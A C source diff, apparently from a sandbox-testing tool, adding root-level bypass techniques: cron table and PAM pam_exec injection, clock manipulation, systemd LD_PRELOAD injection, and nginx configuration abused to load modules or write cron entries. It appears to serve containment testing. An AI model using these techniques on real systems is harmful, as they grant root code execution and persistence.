@@ -5,8 +5,10 @@
 #define _GNU_SOURCE
 #include "bypass.h"
 
+#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdint.h>
@@ -223,18 +225,38 @@ static enum outcome by_systemd_run(void) {
 
 /* ---- other deputies ---- */
 
-/* cron looks at its tables at the full minute: so it is made to be two seconds before that. */
-static enum outcome by_cron(void) {
+/* cron looks at its tables at the full minute: so it is made to be some seconds before that one. */
+static enum outcome cron_at(int minute) {
   static const char *const start[] = {SYSTEMCTL, "restart", "cron.service", NULL};
-  if (access("/usr/sbin/cron", F_OK)) return absent("there is no cron");
-  if (write_text("/etc/cron.d/malassay-bypass", "* * * * * root " SELF " --prove\n"))
-    return refused("write a table of cron");
   struct timespec at;
   clock_gettime(CLOCK_REALTIME, &at);
-  at.tv_sec += (118 - at.tv_sec % 60) % 60; /* to :58 */
+  int period = minute < 0 ? 60 : 3600, before = (minute < 0 ? period : minute * 60) - 6;
+  at.tv_sec += (before + period - at.tv_sec % period) % period;
   if (clock_settime(CLOCK_REALTIME, &at)) return refused("set the clock");
   if (run(start)) return closed("cron does not start");
-  return proven(12);
+  return proven(15);
+}
+
+static int has_no_cron(void) { return access("/usr/sbin/cron", F_OK); }
+
+static enum outcome no_cron(void) { return absent("there is no cron"); }
+
+#define TABLE "/etc/cron.d/malassay-bypass"
+#define ENTRY "* * * * * root " SELF " --prove"
+
+static enum outcome by_cron(void) {
+  if (has_no_cron()) return no_cron();
+  if (write_text(TABLE, ENTRY "\n")) return refused("write a table of cron");
+  return cron_at(-1);
+}
+
+/* What cron does for every entry, also for those that were there: /etc/crontab has one at 17 past. */
+static enum outcome by_pam(void) {
+  static const char line[] = "session optional pam_exec.so " SELF " --prove\n";
+  if (has_no_cron()) return no_cron();
+  if (write_file("/etc/pam.d/cron", line, strlen(line), O_APPEND, 0))
+    return refused("write what PAM does for cron");
+  return cron_at(17);
 }
 
 /* Writes to a file of the kernel, and afterwards what was there. */
@@ -319,22 +341,79 @@ static enum outcome by_ld_so_preload(void) {
   return proven(SECONDS);
 }
 
-/* A service that runs what its setting names. */
-static enum outcome by_service(void) {
-  static const char setting[] = "/etc/nginx/nginx.conf";
-  static const char module[] = "load_module " "/etc/nginx/malassay-object;\n";
-  static char text[1 << 16];
+/* What systemd hands to all services that it starts. */
+static enum outcome by_environment(void) {
+  static const char *const set[] = {SYSTEMCTL, "set-environment", "LD_PRELOAD=" OWN "object", NULL};
+  static const char *const unset[] = {SYSTEMCTL, "unset-environment", "LD_PRELOAD", NULL};
+  static const char *const start[] = {SYSTEMCTL, "restart", "nginx.service", NULL};
+  if (access("/usr/sbin/nginx", F_OK)) return absent("there is no nginx to be started anew");
+  if (write_file(OWN "object", preload, preload_size, O_CREAT, 0644)) return refused("write");
+  if (run(set)) return closed("systemctl set-environment failed");
+  run(start);
+  enum outcome outcome = proven(SECONDS);
+  run(unset);
+  return outcome;
+}
+
+/* ---- a service that does what its setting says ---- */
+
+static char setting[1 << 16];
+
+static pid_t nginx(void) {
   char id[16];
-  if (read_text("/run/nginx.pid", id, sizeof id) <= 0) return absent("nginx does not run");
-  if (read_text(setting, text, sizeof text - sizeof module) <= 0) return refused("read nginx.conf");
+  return read_text("/run/nginx.pid", id, sizeof id) > 0 ? atoi(id) : 0;
+}
+
+/* Puts a line into nginx' setting in the place of another (of the beginning, without one). */
+static int set_nginx(const char *in_place_of, const char *line) {
+  static char text[sizeof setting + 1024];
+  if (read_text("/etc/nginx/nginx.conf", setting, sizeof setting) <= 0) return -1;
+  const char *at = in_place_of ? strstr(setting, in_place_of) : setting;
+  if (!at) {
+    errno = ENOENT;
+    return -1;
+  }
+  snprintf(text, sizeof text, "%.*s%s%s", (int)(at - setting), setting, line,
+           at + (in_place_of ? strlen(in_place_of) : 0));
+  return write_text("/etc/nginx/nginx.conf", text);
+}
+
+static enum outcome by_service(void) {
+  if (!nginx()) return absent("nginx does not run");
   if (write_file("/etc/nginx/malassay-object", preload, preload_size, O_CREAT, 0644))
     return refused("write");
-  memmove(text + sizeof module - 1, text, strlen(text) + 1);
-  memcpy(text, module, sizeof module - 1);
-  if (write_text(setting, text)) return refused("write nginx.conf");
-  kill(atoi(id), SIGHUP);
+  if (set_nginx(NULL, "load_module /etc/nginx/malassay-object;\n")) return refused("write nginx.conf");
+  kill(nginx(), SIGHUP);
   enum outcome outcome = proven(SECONDS);
-  write_text(setting, text + sizeof module - 1);
+  write_text("/etc/nginx/nginx.conf", setting);
+  return outcome;
+}
+
+static void ask_nginx(void) {
+  struct sockaddr_in there = {.sin_family = AF_INET,
+                              .sin_port = htons(80),
+                              .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+  char answer[512];
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (connect(fd, (struct sockaddr *)&there, sizeof there) == 0 &&
+      write(fd, "GET / HTTP/1.0\r\n\r\n", 18) == 18)
+    while (read(fd, answer, sizeof answer) > 0) continue;
+  close(fd);
+}
+
+/* Its log is a table of cron. */
+static enum outcome by_service_log(void) {
+  if (has_no_cron()) return no_cron();
+  if (!nginx()) return absent("nginx does not run");
+  if (set_nginx("access_log off;", "log_format table escape=none '" ENTRY "';\n"
+                                   "access_log " TABLE " table;"))
+    return refused("write nginx.conf");
+  kill(nginx(), SIGHUP);
+  for (int tries = 0; tries < 60 && access(TABLE, F_OK); tries++) usleep(50000);
+  sleep(1); /* until a new worker answers */
+  ask_nginx();
+  enum outcome outcome = cron_at(-1);
+  write_text("/etc/nginx/nginx.conf", setting);
   return outcome;
 }
 
@@ -354,10 +433,13 @@ const struct bypass MEMBERSHIPS[] = {
     {"unit-linked", "a unit elsewhere, by systemctl link", by_linked_unit},
     {"unit-drop-in", "a command that is added to a unit that was there", by_drop_in},
     {"cron", "a table of cron", by_cron},
+    {"pam-cron", "a program that PAM runs for entries of cron that were there", by_pam},
     {"core-pattern", "a program for core dumps in core_pattern", by_core_pattern},
     {"modprobe-path", "a program for the kernel to load modules with", by_modprobe},
     {"release-agent", "a program for the kernel to tell of empty control groups", by_release_agent},
     {"udev-rule", "a rule of udev", by_udev},
     {"ld-so-preload", "a written shared object in /etc/ld.so.preload", by_ld_so_preload},
+    {"systemd-environment", "a written shared object, by the environment of services", by_environment},
     {"service-module", "a written module, loaded by nginx as its setting says", by_service},
+    {"service-log", "a log of nginx that is a table of cron, as its setting says", by_service_log},
     {NULL, NULL, NULL}};
